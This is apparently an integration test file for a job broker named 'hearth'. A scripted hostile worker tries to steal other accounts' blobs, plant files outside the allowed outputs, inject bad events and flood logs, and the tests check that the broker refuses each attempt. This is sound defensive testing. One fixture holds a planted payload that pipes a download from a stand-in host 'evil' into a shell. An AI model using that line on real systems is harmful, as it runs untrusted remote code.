// The broker against hostile or broken workers, and the event log under faults: each case is a
// finding of the safety review (issue 6) seen on the code before its fix. The broker is real and
// listens on a loopback port; workers are a scripted socket speaking the real protocol (to say
// what an honest worker never would) or the real `hearth worker` process running real python3.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statfsSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import { join } from 'node:path';
import { BrokerClient } from '../../src/client/api';
import { startBroker, type RunningBroker } from '../../src/broker/server';
import type { JobEvent } from '../../src/shared/protocol';
import { hearth, startWorkerProc, stopProcess, waitFor as waitUntil, type WorkerProc } from './helpers';
import { finalStatus, follow, logOf, submit, type JobHost } from './in-process-jobs';
import { ScriptedWorker } from './scripted-worker';
import { backendFor, TEST_DATABASE } from '../backend';

const sha = (b: Buffer) => createHash('sha256').update(b).digest('hex');

interface Net {
  dir: string;
  broker: RunningBroker;
  admin: BrokerClient;
}

async function startNet(opts: { heartbeatMs?: number; lostAfterMs?: number; dataDir?: string; maxJobEventBytes?: number } = {}): Promise<Net> {
  const dir = mkdtempSync(join(os.tmpdir(), 'hearth-log-attacks-'));
  const dataDir = opts.dataDir ?? join(dir, 'broker');
  const broker = await startBroker({
    ...(await backendFor(dataDir)),
    dataDir,
    port: 0,
    heartbeatMs: opts.heartbeatMs ?? 500,
    ...(opts.lostAfterMs ? { lostAfterMs: opts.lostAfterMs } : {}),
    ...(opts.maxJobEventBytes ? { maxJobEventBytes: opts.maxJobEventBytes } : {}),
  });
  return { dir, broker, admin: new BrokerClient({ url: broker.url, token: broker.adminToken! }) };
}

/** A user account with its own worker token, as anyone on an open community broker can have. */
async function account(net: Net, name: string): Promise<{ user: BrokerClient; workerToken: string }> {
  const { token } = await net.admin.createAccount(name);
  const user = new BrokerClient({ url: net.broker.url, token });
  return { user, workerToken: (await user.createToken('worker', `${name}'s worker`)).token };
}

/** Uploads one file and submits a job to the lease; returns the job id. */
async function submitTo(user: BrokerClient, leaseId: string, files: Record<string, Buffer>, outputs: string[] = ['outputs/**']): Promise<string> {
  const manifest = [];
  for (const [path, bytes] of Object.entries(files)) {
    const h = sha(bytes);
    await user.putBlob(h, bytes, bytes.length);
    manifest.push({ path, sha256: h, size: bytes.length, executable: false });
  }
  const job = await user.submitJob({ leaseId, entry: Object.keys(files)[0]!, args: [], env: {}, outputs, logdir: 'runs', manifest: { files: manifest } });
  return job.id;
}

async function eventsOf(user: BrokerClient, jobId: string): Promise<JobEvent[]> {
  const out: JobEvent[] = [];
  for await (const e of user.events(jobId)) out.push(e);
  return out;
}

const putArtifactBlob = async (net: Net, workerToken: string, jobId: string, bytes: Buffer) => {
  const res = await fetch(`${net.broker.url}/v1/jobs/${jobId}/blobs/${sha(bytes)}`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${workerToken}`, 'content-type': 'application/octet-stream' },
    body: bytes,
  });
  assert.equal(res.status, 201, await res.text());
};

describe('the broker against hostile workers (integration)', function () {
  this.timeout(120_000);
  let net: Net;
  const sockets: ScriptedWorker[] = [];
  beforeEach(async () => (net = await startNet()));
  afterEach(async () => {
    for (const s of sockets.splice(0)) await s.close();
    await net.broker.close();
    rmSync(net.dir, { recursive: true, force: true });
  });

  async function scripted(token: string, hello: Parameters<ScriptedWorker['connect']>[0] = {}): Promise<ScriptedWorker> {
    const s = new ScriptedWorker(net.broker.url, token);
    sockets.push(s);
    await s.connect(hello);
    return s;
  }

  /** mallory leases her own scripted worker and gets a job of hers assigned to it */
  async function malloryWithJob(outputs: string[] = ['outputs/**']) {
    const mallory = await account(net, 'mallory');
    const w = await scripted(mallory.workerToken);
    const lease = await mallory.user.createLease({ workerId: w.workerId, count: 1, hours: 1 });
    const jobId = await submitTo(mallory.user, lease.id, { 'run.py': Buffer.from('print(1)\n') }, outputs);
    await w.waitFor((m) => m.type === 'job' && m.job.jobId === jobId, 'the job');
    w.send({ type: 'job-accepted', jobId });
    return { ...mallory, w, lease, jobId };
  }

  it('a worker cannot make another account\'s blob its own by reporting it as an artifact', async () => {
    const alice = await account(net, 'alice');
    const secret = randomBytes(4096);
    await alice.user.putBlob(sha(secret), secret, secret.length);
    const m = await malloryWithJob();
    m.w.event(m.jobId, 1, { type: 'status', status: 'running' });
    // The victim's hash and true size, and a hash that exists nowhere: the answers must not differ.
    m.w.event(m.jobId, 2, { type: 'artifact', artifact: { path: 'outputs/stolen.pt', sha256: sha(secret), size: secret.length } });
    m.w.event(m.jobId, 3, { type: 'artifact', artifact: { path: 'outputs/none.pt', sha256: sha(randomBytes(8)), size: 17 } });
    m.w.event(m.jobId, 4, { type: 'status', status: 'succeeded', exitCode: 0 });
    await m.w.acked(m.jobId, 4);
    assert.deepEqual(await m.user.artifacts(m.jobId), []);
    assert.equal(await m.user.hasBlob(sha(secret)), false);
    await assert.rejects(m.user.getBlob(sha(secret)), /404|no blob/);
    const notices = (await eventsOf(m.user, m.jobId)).flatMap((e) => (e.body.type === 'notice' ? [e.body.message] : []));
    assert.equal(notices.length, 2, JSON.stringify(notices));
    const shape = (s: string) => s.replace(/[0-9a-f]{64}/g, 'H').replace(/outputs\/\w+\.pt/, 'P').replace(/\d+/g, 'N');
    assert.equal(shape(notices[0]!), shape(notices[1]!), 'the refusal tells nothing about whether the hash exists');
    assert.doesNotMatch(notices[0]!, new RegExp(String(secret.length)));
  });

  it('an artifact outside the job\'s output globs is refused, even when its bytes were uploaded', async () => {
    const m = await malloryWithJob(['outputs/**']);
    const planted = Buffer.from('import os; os.system("curl evil | sh")\n');
    const real = Buffer.from('weights');
    await putArtifactBlob(net, m.workerToken, m.jobId, planted);
    await putArtifactBlob(net, m.workerToken, m.jobId, real);
    m.w.event(m.jobId, 1, { type: 'artifact', artifact: { path: 'train.py', sha256: sha(planted), size: planted.length } });
    m.w.event(m.jobId, 2, { type: 'artifact', artifact: { path: 'outputs/model.pt', sha256: sha(real), size: real.length } });
    m.w.event(m.jobId, 3, { type: 'status', status: 'succeeded', exitCode: 0 });
    await m.w.acked(m.jobId, 3);
    assert.deepEqual((await m.user.artifacts(m.jobId)).map((a) => a.path), ['outputs/model.pt']);
  });

  it('refuses an out-of-order event instead of skipping ahead, and takes the gap once it is filled', async () => {
    const m = await malloryWithJob();
    const log = (i: number) => ({ type: 'log' as const, stream: 'stdout' as const, data: `line ${i}\n` });
    m.w.event(m.jobId, 1, log(1));
    await m.w.acked(m.jobId, 1);
    const from = m.w.received.length;
    m.w.event(m.jobId, 3, log(3)); // 2 never arrived (lost in a failed append, say)
    const nack = await m.w.waitFor((x) => x.type === 'nack' && x.jobId === m.jobId, 'a refusal', 10_000, from);
    assert.equal((nack as { ackedWseq: number }).ackedWseq, 1);
    assert.ok(!m.w.received.slice(from).some((x) => x.type === 'ack' && x.wseq >= 3), 'the gap is not acknowledged');
    m.w.event(m.jobId, 2, log(2));
    m.w.event(m.jobId, 3, log(3));
    m.w.event(m.jobId, 4, { type: 'status', status: 'succeeded', exitCode: 0 });
    await m.w.acked(m.jobId, 4);
    assert.equal(logOf(await eventsOf(m.user, m.jobId), 'stdout'), 'line 1\nline 2\nline 3\n');
  });

  it('an invalid event of one job becomes a notice in that job; the worker\'s other jobs go on', async () => {
    const m = await malloryWithJob();
    const bob = await account(net, 'bob');
    const bobLease = await bob.user.createLease({ workerId: m.w.workerId, count: 1, hours: 1 }).catch(() => undefined);
    // One CPU device: bob's job goes on a second worker socket of mallory's account instead.
    const w2 = bobLease ? m.w : await scripted(m.workerToken, { name: 'second', hostname: 'second-host' });
    const lease2 = bobLease ?? (await bob.user.createLease({ workerId: w2.workerId, count: 1, hours: 1 }));
    const bobJob = await submitTo(bob.user, lease2.id, { 'b.py': Buffer.from('print(2)\n') });
    await w2.waitFor((x) => x.type === 'job' && x.job.jobId === bobJob, 'bob\'s job');
    // A tag longer than any schema allows, as a tailer fed a hostile event file would produce.
    m.w.send({ type: 'event', jobId: m.jobId, wseq: 1, body: { type: 'scalars', points: [{ run: '.', tag: 'x'.repeat(10_000), step: 1, wallTime: 1, value: 1 }] } });
    m.w.event(m.jobId, 2, { type: 'log', stream: 'stdout', data: 'after\n' });
    await m.w.acked(m.jobId, 2);
    assert.equal(m.w.closed, undefined, 'the socket stays open');
    w2.event(bobJob, 1, { type: 'log', stream: 'stdout', data: 'bob line\n' });
    w2.event(bobJob, 2, { type: 'status', status: 'succeeded', exitCode: 0 });
    await w2.acked(bobJob, 2);
    assert.equal(logOf(await eventsOf(bob.user, bobJob), 'stdout'), 'bob line\n');
    const mine = await eventsOf(m.user, m.jobId);
    assert.match(JSON.stringify(mine.map((e) => e.body)), /invalid event.*scalars/i);
    assert.equal(logOf(mine, 'stdout'), 'after\n');
  });

  it('a worker cannot upload blobs for a job that has ended', async () => {
    const m = await malloryWithJob();
    m.w.event(m.jobId, 1, { type: 'status', status: 'succeeded', exitCode: 0 });
    await m.w.acked(m.jobId, 1);
    const bytes = randomBytes(64);
    const res = await fetch(`${net.broker.url}/v1/jobs/${m.jobId}/blobs/${sha(bytes)}`, {
      method: 'PUT',
      headers: { authorization: `Bearer ${m.workerToken}`, 'content-type': 'application/octet-stream' },
      body: bytes,
    });
    assert.equal(res.status, 409, await res.text());
    assert.equal(await net.broker.broker.blobSize(sha(bytes)), undefined);
  });

  it('an account cannot revoke the token it is using (an admin would lock itself out), and a revoked token ends the log it follows', async () => {
    const mine = (await net.admin.tokens()).find((t) => t.kind === 'user')!;
    await assert.rejects(net.admin.revokeToken(mine.id), /you are using/);
    assert.equal((await net.admin.me()).name, 'admin');
    const m = await malloryWithJob();
    const second = new BrokerClient({ url: net.broker.url, token: (await m.user.createToken('user', 'follower')).token });
    const seen: string[] = [];
    const following = (async () => {
      for await (const e of second.events(m.jobId, { follow: true })) if (e.body.type === 'log') seen.push(e.body.data);
    })();
    m.w.event(m.jobId, 1, { type: 'log', stream: 'stdout', data: 'before\n' });
    await waitUntil('the first line', () => (seen.length === 1 ? true : undefined));
    const id = (await m.user.tokens()).find((t) => t.label === 'follower')!.id;
    await m.user.revokeToken(id);
    m.w.event(m.jobId, 2, { type: 'log', stream: 'stdout', data: 'after\n' });
    await assert.rejects(following, /revoked/);
    assert.deepEqual(seen, ['before\n']);
  });

  it('a worker cannot append events to a job that has ended', async () => {
    const m = await malloryWithJob();
    m.w.event(m.jobId, 1, { type: 'status', status: 'succeeded', exitCode: 0 });
    await m.w.acked(m.jobId, 1);
    const before = (await m.user.job(m.jobId)).lastSeq;
    m.w.event(m.jobId, 2, { type: 'log', stream: 'stdout', data: 'written after the end\n' });
    m.w.event(m.jobId, 3, { type: 'artifact', artifact: { path: 'outputs/late.pt', sha256: sha(Buffer.from('x')), size: 1 } });
    await m.w.waitFor((x) => (x.type === 'ack' || x.type === 'nack') && x.jobId === m.jobId && ('wseq' in x ? x.wseq >= 3 : true), 'an answer', 10_000).catch(() => undefined);
    await new Promise((r) => setTimeout(r, 300));
    const job = await m.user.job(m.jobId);
    assert.equal(job.lastSeq, before);
    assert.equal(job.status, 'succeeded');
  });

  it('a worker saying hello without an id does not add a worker row each time', async () => {
    const mallory = await account(net, 'mallory');
    const ids = new Set<string>();
    for (let i = 0; i < 8; i++) {
      const s = new ScriptedWorker(net.broker.url, mallory.workerToken);
      ids.add(await s.connect());
      await s.close();
    }
    const rows = await net.broker.broker.store.workers.byNameAndHost((await net.broker.broker.authenticate(mallory.workerToken))!.accountId, 'scripted', 'scripted-host');
    assert.equal(rows.length, 1, `${rows.length} worker rows for one host`);
    assert.equal(ids.size, 1);
  });

  it('a job the worker accepted but never started ends when its lease is released while the worker is away', async () => {
    const m = await malloryWithJob();
    await waitUntil('acceptance', async () => ((await net.broker.broker.events.job(m.jobId))?.accepted_at ?? null) !== null || undefined);
    await m.w.close();
    await m.user.releaseLease(m.lease.id);
    await waitUntil('the job to end', async () => ((await m.user.job(m.jobId)).status === 'queued' ? undefined : true), 5000);
    assert.equal((await m.user.job(m.jobId)).status, 'cancelled');
  });
});

describe('a lost worker and its leases (integration)', function () {
  this.timeout(120_000);
  let net: Net;
  afterEach(async () => {
    await net.broker.close();
    rmSync(net.dir, { recursive: true, force: true });
  });

  it('a job accepted but not started is lost when its worker stays away, not queued forever', async () => {
    net = await startNet({ heartbeatMs: 300, lostAfterMs: 2000 });
    const mallory = await account(net, 'mallory');
    const w = new ScriptedWorker(net.broker.url, mallory.workerToken);
    await w.connect();
    const lease = await mallory.user.createLease({ workerId: w.workerId, count: 1, hours: 1 });
    const jobId = await submitTo(mallory.user, lease.id, { 'run.py': Buffer.from('print(1)\n') });
    await w.waitFor((m) => m.type === 'job', 'the job');
    w.send({ type: 'job-accepted', jobId });
    await waitUntil('acceptance', async () => ((await net.broker.broker.events.job(jobId))?.accepted_at ?? null) !== null || undefined);
    await w.close();
    await waitUntil('the job to be lost', async () => ((await mallory.user.job(jobId)).status === 'lost' ? true : undefined), 15_000);
  });

  it('a frozen (SIGSTOPped) worker goes offline within seconds, the renter is told, and the lease stops billing', async function () {
    net = await startNet({ heartbeatMs: 300, lostAfterMs: 60_000 });
    const { token: workerToken } = await net.admin.createToken('worker', 'w');
    const wp: WorkerProc = await startWorkerProc(net.broker.url, workerToken, join(net.dir, 'worker'), ['--nvidia-smi', join(net.dir, 'none')]);
    try {
      const host: JobHost = { dir: net.dir, client: net.admin };
      const jobId = await submit(host, { 'sleep.py': 'import time\nprint("started", flush=True)\ntime.sleep(600)\n' }, { entry: 'sleep.py' });
      const seen: JobEvent[] = [];
      const following = follow(host, jobId, (e) => seen.push(e));
      await waitUntil('the job to start', () => (logOf(seen, 'stdout').includes('started') ? true : undefined));
      wp.proc.kill('SIGSTOP');
      const stoppedAt = Date.now();
      await waitUntil('the offer to go', async () => ((await net.admin.offers()).length === 0 ? true : undefined), 15_000);
      await waitUntil('a worker-lost notice', () => (seen.some((e) => e.body.type === 'notice' && /worker lost/i.test(e.body.message)) ? true : undefined), 15_000);
      const lease = await net.admin.lease(host.leaseId!);
      await new Promise((r) => setTimeout(r, 2500));
      const later = await net.admin.lease(host.leaseId!);
      assert.equal(later.secondsUsed, lease.secondsUsed, 'no billing while the worker is away');
      assert.ok(later.secondsUsed * 1000 <= stoppedAt - lease.createdAt + 2000, 'billing ends at the last heartbeat');
      // Thawed, it comes back: the job goes on and billing resumes.
      wp.proc.kill('SIGCONT');
      await waitUntil('the offer to return', async () => ((await net.admin.offers()).length === 1 ? true : undefined), 20_000);
      await net.admin.cancelJob(jobId);
      await following;
      assert.equal(finalStatus(seen).status, 'cancelled');
    } finally {
      wp.proc.kill('SIGCONT');
      await stopProcess(wp.proc);
    }
  });
});

describe('a worker whose token is revoked (integration)', function () {
  this.timeout(60_000);
  it('stops and says why instead of retrying forever', async () => {
    const net = await startNet();
    try {
      const { token } = await net.admin.createToken('worker', 'to be revoked');
      const wp = await startWorkerProc(net.broker.url, token, join(net.dir, 'worker'), ['--nvidia-smi', join(net.dir, 'none')]);
      const exited = new Promise<number | null>((r) => wp.proc.once('exit', (code) => r(code)));
      const id = (await net.admin.tokens()).find((t) => t.label === 'to be revoked')!.id;
      await net.admin.revokeToken(id);
      assert.equal(await exited, 1);
      assert.match(wp.log(), /no longer accepts this worker's token/);
    } finally {
      await net.broker.close();
      rmSync(net.dir, { recursive: true, force: true });
    }
  });
});

describe('a lease runs its jobs one at a time (integration)', function () {
  this.timeout(120_000);
  it('queues the rest visibly and runs them in order, never two at once', async () => {
    const net = await startNet();
    const { token: workerToken } = await net.admin.createToken('worker', 'w');
    const wp = await startWorkerProc(net.broker.url, workerToken, join(net.dir, 'worker'), ['--nvidia-smi', join(net.dir, 'none')]);
    try {
      const host: JobHost = { dir: net.dir, client: net.admin };
      const script = 'import time\nprint("start", time.time(), flush=True)\ntime.sleep(0.4)\nprint("end", time.time(), flush=True)\n';
      const ids: string[] = [];
      for (let i = 0; i < 4; i++) ids.push(await submit(host, { 'j.py': script }, { entry: 'j.py' }));
      const all = await Promise.all(ids.map((id) => follow(host, id)));
      const spans = all.map((ev) => {
        assert.equal(finalStatus(ev).status, 'succeeded');
        const out = logOf(ev, 'stdout');
        return [Number(/start (\S+)/.exec(out)![1]), Number(/end (\S+)/.exec(out)![1])] as const;
      });
      for (let i = 1; i < spans.length; i++) assert.ok(spans[i]![0] >= spans[i - 1]![1], `job ${i} started before job ${i - 1} ended`);
      const waiting = all[3]!.filter((e) => e.body.type === 'notice' && /waiting for/i.test(e.body.message));
      assert.equal(waiting.length, 1, 'a queued job says what it waits for');
    } finally {
      await stopProcess(wp.proc);
      await net.broker.close();
      rmSync(net.dir, { recursive: true, force: true });
    }
  });
});

describe('what one job can send is capped (integration)', function () {
  this.timeout(120_000);
  it('a job flooding its log past the cap is stopped, the broker keeps no more of it, the next job runs', async () => {
    const net = await startNet({ maxJobEventBytes: 256 * 1024 });
    const { token: workerToken } = await net.admin.createToken('worker', 'w');
    const wp = await startWorkerProc(net.broker.url, workerToken, join(net.dir, 'worker'), ['--kill-grace', '1', '--nvidia-smi', join(net.dir, 'none')]);
    try {
      const host: JobHost = { dir: net.dir, client: net.admin };
      const flood = await submit(host, { 'flood.py': 'import time\nfor i in range(40000):\n    print("z" * 100)\ntime.sleep(600)\n' }, { entry: 'flood.py' });
      const next = await submit(host, { 'ok.py': 'print("fine")\n' }, { entry: 'ok.py' });
      const events = await follow(host, flood);
      const end = finalStatus(events);
      assert.equal(end.status, 'cancelled');
      assert.match(String(end.reason), /limit/);
      assert.ok(logOf(events, 'stdout').length <= 256 * 1024, `${logOf(events, 'stdout').length} bytes stored`);
      assert.ok(events.some((e) => e.body.type === 'notice' && /passed the broker's limit of 256 KiB/.test(e.body.message)));
      const after = await follow(host, next);
      assert.equal(finalStatus(after).status, 'succeeded');
      assert.equal(logOf(after, 'stdout'), 'fine\n');
    } finally {
      await stopProcess(wp.proc);
      await net.broker.close();
      rmSync(net.dir, { recursive: true, force: true });
    }
  });
});

describe('a full disk under the broker (integration)', function () {
  this.timeout(240_000);
  const canMount = os.platform() === 'linux' && process.getuid?.() === 0;

  it('pauses the job\'s output instead of dropping it, and loses no line', async function () {
    // The disk filled here is the data dir's: on PostgreSQL the events are stored elsewhere.
    if (!canMount || TEST_DATABASE) this.skip();
    const root = mkdtempSync(join(os.tmpdir(), 'hearth-fulldisk-'));
    const dataDir = join(root, 'data');
    mkdirSync(dataDir);
    const mounted = spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=40m', 'tmpfs', dataDir]);
    if (mounted.status !== 0) {
      rmSync(root, { recursive: true, force: true });
      this.skip();
    }
    let net: Net | undefined;
    let wp: WorkerProc | undefined;
    try {
      net = await startNet({ dataDir });
      const { token: workerToken } = await net.admin.createToken('worker', 'w');
      wp = await startWorkerProc(net.broker.url, workerToken, join(root, 'worker'), ['--nvidia-smi', join(root, 'none')]);
      const host: JobHost = { dir: root, client: net.admin };
      // The job waits for a go file in its own folder (the one place a sandboxed job surely sees:
      // it runs as another user, with a private /tmp), so the disk is full before its output starts.
      const N = 80_000;
      const script = `import os, time\nwhile not os.path.exists("go"): time.sleep(0.05)\nfor i in range(${N}):\n    print(f"line {i:06d} " + "y" * 80)\n`;
      const jobId = await submit(host, { 'flood.py': script }, { entry: 'flood.py' });
      const go = join(root, 'worker', 'jobs', jobId, 'go');
      await waitUntil('the job to start', async () => ((await net!.admin.job(jobId)).status === 'running' ? true : undefined));
      // Fill the broker's disk, leaving a little room, then let the job print.
      const filler = join(dataDir, 'filler');
      const free = Number(statfsSync(dataDir).bavail) * Number(statfsSync(dataDir).bsize);
      execFileSync('fallocate', ['-l', String(Math.max(0, free - 2 * 1024 * 1024)), filler]);
      // The renter is told why the output stopped, and when it flows again.
      const stalls: (string | null)[] = [];
      const watching = (async () => {
        for await (const _ of net.admin.events(jobId, { follow: true, onStalled: (m) => stalls.push(m) })) {
          /* the events are checked below */
        }
      })();
      writeFileSync(go, '');
      await waitUntil('the disk to fill', () => (Number(statfsSync(dataDir).bavail) * Number(statfsSync(dataDir).bsize) < 256 * 1024 ? true : undefined), 60_000, 50);
      await new Promise((r) => setTimeout(r, 3000));
      const stalled = await net.admin.job(jobId);
      assert.equal(stalled.status, 'running', 'the job is paused, not ended');
      await waitUntil('the renter to be told', () => (stalls.length > 0 ? true : undefined), 10_000);
      assert.match(String(stalls[0]), /disk is full.*paused.*nothing is lost/);
      rmSync(filler);
      const events = await follow(host, jobId);
      await watching;
      assert.equal(stalls[stalls.length - 1], null, 'and told when it flows again');
      assert.equal(finalStatus(events).status, 'succeeded');
      const lines = logOf(events, 'stdout').split('\n').filter(Boolean);
      assert.equal(lines.length, N, `${N - lines.length} lines lost`);
      lines.forEach((l, i) => assert.ok(l.startsWith(`line ${String(i).padStart(6, '0')} `), `line ${i} is ${l.slice(0, 20)}`));
      const seqs = events.map((e) => e.seq);
      seqs.forEach((s, i) => assert.equal(s, i + 1));
    } finally {
      if (wp) await stopProcess(wp.proc);
      await net?.broker.close();
      spawnSync('umount', ['-l', dataDir]);
      rmSync(root, { recursive: true, force: true });
    }
  });
});

describe('pull never overwrites a file it did not download (integration)', function () {
  this.timeout(120_000);
  it('refuses to replace a different local file unless --force', async () => {
    const net = await startNet();
    const { token: workerToken } = await net.admin.createToken('worker', 'w');
    const wp = await startWorkerProc(net.broker.url, workerToken, join(net.dir, 'worker'), ['--nvidia-smi', join(net.dir, 'none')]);
    try {
      const host: JobHost = { dir: net.dir, client: net.admin };
      const jobId = await submit(host, { 'w.py': 'import os\nos.makedirs("outputs", exist_ok=True)\nopen("outputs/model.pt","w").write("new weights")\n' }, { entry: 'w.py', outputs: ['outputs/**'] });
      assert.equal(finalStatus(await follow(host, jobId)).status, 'succeeded');
      const dest = join(net.dir, 'dest');
      mkdirSync(join(dest, 'outputs'), { recursive: true });
      writeFileSync(join(dest, 'outputs', 'model.pt'), 'my own file');
      const env = { HEARTH_BROKER_URL: net.broker.url, HEARTH_TOKEN: net.broker.adminToken!, HEARTH_DATA_DIR: join(net.dir, 'cli') };
      const refused = await hearth(['pull', jobId, '--dest', dest], env);
      assert.notEqual(refused.code, 0);
      assert.match(refused.stderr, /outputs\/model\.pt/);
      assert.match(refused.stderr, /--force/);
      assert.equal(readFileSync(join(dest, 'outputs', 'model.pt'), 'utf8'), 'my own file');
      assert.ok(!existsSync(join(dest, 'outputs', 'model.pt.part')));
      // The same file again is no conflict; --force replaces a different one.
      const forced = await hearth(['pull', jobId, '--dest', dest, '--force'], env);
      assert.equal(forced.code, 0, forced.stderr);
      assert.equal(readFileSync(join(dest, 'outputs', 'model.pt'), 'utf8'), 'new weights');
      const again = await hearth(['pull', jobId, '--dest', dest], env);
      assert.equal(again.code, 0, again.stderr);
    } finally {
      await stopProcess(wp.proc);
      await net.broker.close();
      rmSync(net.dir, { recursive: true, force: true });
    }
  });
});
